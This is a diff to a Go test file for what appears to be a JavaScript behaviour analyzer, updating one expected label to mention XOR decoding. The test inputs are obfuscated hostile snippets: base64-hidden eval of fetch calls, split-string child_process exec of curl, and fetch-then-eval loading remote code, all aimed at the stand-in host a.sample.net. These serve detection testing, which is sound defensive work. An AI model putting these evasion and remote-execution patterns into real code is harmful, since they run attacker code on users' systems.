@@ -291,7 +291,7 @@ func TestJavaScriptFlow(t *testing.T) {
 		{"eval(Buffer.from('ZmV0Y2goImh0dHBzOi8vYS5zYW1wbGUubmV0Iik=', 'base64').toString())", "decodes encoding base64; runs code  <decodes:base64; sends host a.sample.net"},
 		{"new Function('a', atob('ZmV0Y2goImh0dHBzOi8vYS5zYW1wbGUubmV0Iik='))(1)", "runs code  <decodes:base64; sends host a.sample.net"},
 		{"require('child' + '_process')['ex' + 'ec']('curl a.sample.net')", "runs program curl; sends host a.sample.net"},
-		{"const f = [102, 101].map(c => String.fromCharCode(c ^ 1)).join('')\nconst fs = require('fs')\nfs.writeFileSync(f, fs.readFileSync('/etc/in'))", "writes file gd <reads:/etc/in"},
+		{"const f = [102, 101].map(c => String.fromCharCode(c ^ 1)).join('')\nconst fs = require('fs')\nfs.writeFileSync(f, fs.readFileSync('/etc/in'))", "writes file gd <decodes:xor <reads:/etc/in"},
 		{"import('data:text/javascript;base64,ZmV0Y2goImh0dHBzOi8vYS5zYW1wbGUubmV0Iik=')", "decodes encoding base64; sends host a.sample.net"},
 		{"[].filter.constructor('r', atob('ZmV0Y2goImh0dHBzOi8vYS5zYW1wbGUubmV0Iik='))()", "runs code  <decodes:base64; sends host a.sample.net"},
 		{"fetch('https://a.sample.net').then(r => r.text()).then(t => eval(t))", "sends host a.sample.net; runs code  <sends:a.sample.net"},
